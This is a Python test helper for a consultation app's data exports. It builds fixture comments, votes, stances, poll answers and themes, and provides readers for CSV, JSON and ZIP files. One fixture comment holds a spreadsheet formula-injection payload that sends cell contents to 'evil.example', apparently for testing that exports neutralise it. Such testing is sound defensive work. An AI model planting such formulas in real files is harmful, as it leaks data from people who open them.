"""A topic with one of everything an export holds, and readers for the files."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import dataclass, field
from datetime import UTC, date, datetime

import sqlalchemy as sa

from eraati.audit.models import AuditEvent
from eraati.consultations import tallies
from eraati.consultations.models import (
    Answer,
    AnswerChoice,
    Comment,
    CommentSource,
    CommentStatus,
    CommentVote,
    Stance,
    Theme,
    Topic,
    TopicStance,
    VoteValue,
    comment_themes,
)
from eraati.extensions import db
from eraati.organisations.models import Organisation
from tests import factories

# 1 March 2026 10:40 UTC is 12:40 in Helsinki (EET, UTC+2).
WRITTEN = datetime(2026, 3, 1, 10, 40, tzinfo=UTC)
RECEIVED = date(2026, 2, 27)


def exports_path(topic: Topic, suffix: str = "", *, org_slug: str | None = None) -> str:
    return f"/staff/{org_slug or topic.organisation.slug}/topics/{topic.id}/exports{suffix}"


def audit_rows(action: str = "export.download") -> list[AuditEvent]:
    return list(
        db.session.scalars(
            sa.select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)
        )
    )


@dataclass
class World:
    """Keitele's topic with comments of every channel, votes, stances, poll answers and
    themes. ``secrets`` are strings that must never appear in any file."""

    topic: Topic
    org: Organisation
    people: dict[str, object] = field(default_factory=dict)
    comments: dict[str, Comment] = field(default_factory=dict)
    themes: dict[str, Theme] = field(default_factory=dict)
    secrets: list[str] = field(default_factory=list)


def _comment(topic: Topic, **kw) -> Comment:
    kw.setdefault("created_at", WRITTEN)
    kw.setdefault("status", CommentStatus.VISIBLE)
    comment = Comment(topic_id=topic.id, **kw)
    db.session.add(comment)
    db.session.flush()
    return comment


def build_world(org: Organisation, topic: Topic, staff) -> World:
    world = World(topic=topic, org=org)
    home = factories.make_org("tervo", "Tervo")
    aino = factories.make_user("aino.virtanen@example.fi", name="Aino Virtanen")
    factories.set_home(aino, home)
    olli = factories.make_user("olli.korhonen@example.fi", name="Olli Korhonen")
    factories.set_home(olli, org)
    pekka = factories.make_user("pekka.voter@example.fi", name="Pekka Äänestäjä")
    world.people = {"aino": aino, "olli": olli, "pekka": pekka, "staff": staff}
    world.secrets = [
        aino.email,
        olli.email,
        pekka.email,
        staff.email,
        aino.display_name,
        olli.display_name,
        pekka.display_name,
        staff.display_name,
        "Salainen Nimimerkki",  # an anonymous writer's nickname
    ]
    transport = Theme(topic_id=topic.id, texts={"fi": "Liikenne", "sv": "Trafik"}, position=1)
    hours = Theme(topic_id=topic.id, texts={"fi": "Aukioloajat", "sv": "Öppettider"}, position=0)
    db.session.add_all([transport, hours])
    db.session.flush()
    world.themes = {"transport": transport, "hours": hours}

    c = world.comments
    c["web"] = _comment(
        topic,
        author_id=aino.id,
        body="Kirjaston pitäisi olla auki myös sunnuntaisin.",
        language="fi",
        agree_count=2,
        disagree_count=1,
        pass_count=0,
        is_key=True,
    )
    c["reply"] = _comment(
        topic,
        author_id=olli.id,
        parent_id=c["web"].id,
        root_id=c["web"].id,
        body='=HYPERLINK("http://evil.example/?"&A1, "Klikkaa")',
        language="fi",
    )
    c["official"] = _comment(
        topic,
        author_id=staff.id,
        parent_id=c["web"].id,
        root_id=c["web"].id,
        body="Kiitos, selvitämme asiaa.",
        is_official=True,
    )
    c["anonymous"] = _comment(
        topic, nickname="Salainen Nimimerkki", body='Hyvä; mutta "kallis"\nratkaisu.'
    )
    c["paper"] = _comment(
        topic,
        source=CommentSource.PAPER,
        body="Paperilla annettu palaute.",
        received_on=RECEIVED,
        place="Pääkirjasto",
        entered_by_id=staff.id,
    )
    c["event"] = _comment(
        topic,
        source=CommentSource.EVENT,
        body="@tapahtuma palaute",
        received_on=RECEIVED,
        place="Digitukitapahtuma",
        entered_by_id=staff.id,
    )
    c["hidden"] = _comment(
        topic,
        author_id=olli.id,
        body="Loukkaava kommentti",
        status=CommentStatus.HIDDEN,
        hidden_at=WRITTEN,
        hidden_reason="Asiaton kielenkäyttö",
    )
    c["pending"] = _comment(
        topic, author_id=aino.id, body="Odottaa tarkastusta", status=CommentStatus.PENDING
    )
    c["deleted"] = _comment(
        topic, author_id=aino.id, body="Poistettu teksti", status=CommentStatus.DELETED
    )
    db.session.execute(
        sa.insert(comment_themes),
        [
            {"comment_id": c["web"].id, "theme_id": transport.id},
            {"comment_id": c["web"].id, "theme_id": hours.id},
            {"comment_id": c["paper"].id, "theme_id": hours.id},
        ],
    )
    db.session.add_all(
        [
            CommentVote(comment_id=c["web"].id, user_id=olli.id, value=VoteValue.AGREE),
            CommentVote(comment_id=c["web"].id, user_id=pekka.id, value=VoteValue.AGREE),
            CommentVote(comment_id=c["web"].id, user_id=staff.id, value=VoteValue.DISAGREE),
            CommentVote(comment_id=c["reply"].id, user_id=pekka.id, value=VoteValue.PASS),
            CommentVote(comment_id=c["pending"].id, user_id=pekka.id, value=VoteValue.AGREE),
            TopicStance(
                topic_id=topic.id, user_id=aino.id, stance=Stance.SUPPORT, updated_at=WRITTEN
            ),
            TopicStance(
                topic_id=topic.id, user_id=pekka.id, stance=Stance.OPPOSE, updated_at=WRITTEN
            ),
        ]
    )
    single, multiple = topic.questions
    answer = Answer(question_id=single.id, user_id=aino.id, updated_at=WRITTEN)
    answer.choices.append(AnswerChoice(option_id=single.options[0].id))
    several = Answer(question_id=multiple.id, user_id=pekka.id, updated_at=WRITTEN)
    several.choices.append(AnswerChoice(option_id=multiple.options[2].id))
    several.choices.append(AnswerChoice(option_id=multiple.options[0].id))
    db.session.add_all([answer, several])
    db.session.flush()
    tallies.recompute([single.id, multiple.id])  # rows written directly: count them
    return world


# --- reading files back -------------------------------------------------------------------------


def read_csv(data: bytes, *, excel: bool) -> list[list[str]]:
    text = data.decode("utf-8-sig" if excel else "utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if excel else ","))


def csv_records(data: bytes, *, excel: bool) -> list[dict[str, str]]:
    header, *body = read_csv(data, excel=excel)
    return [dict(zip(header, line, strict=True)) for line in body]


def read_json(data: bytes) -> dict:
    return json.loads(data.decode("utf-8"))


def read_zip_csv(data: bytes, name: str) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        text = zf.read(name).decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def all_text(data: bytes) -> str:
    """Every character of a file, zips (XLSX, Polis) unpacked."""
    if data[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            return "\n".join(zf.read(n).decode("utf-8") for n in zf.namelist())
    return data.decode("utf-8-sig")


def give_map(topic) -> None:
    """The topic gets a map (the area around Vieremä's centre): the GeoJSON export is
    offered only for a topic with one."""
    from eraati.extensions import db
    from eraati.places.models import TopicMap

    db.session.add(TopicMap(topic_id=topic.id, south=63.74, west=27.0, north=63.76, east=27.04))
    db.session.commit()
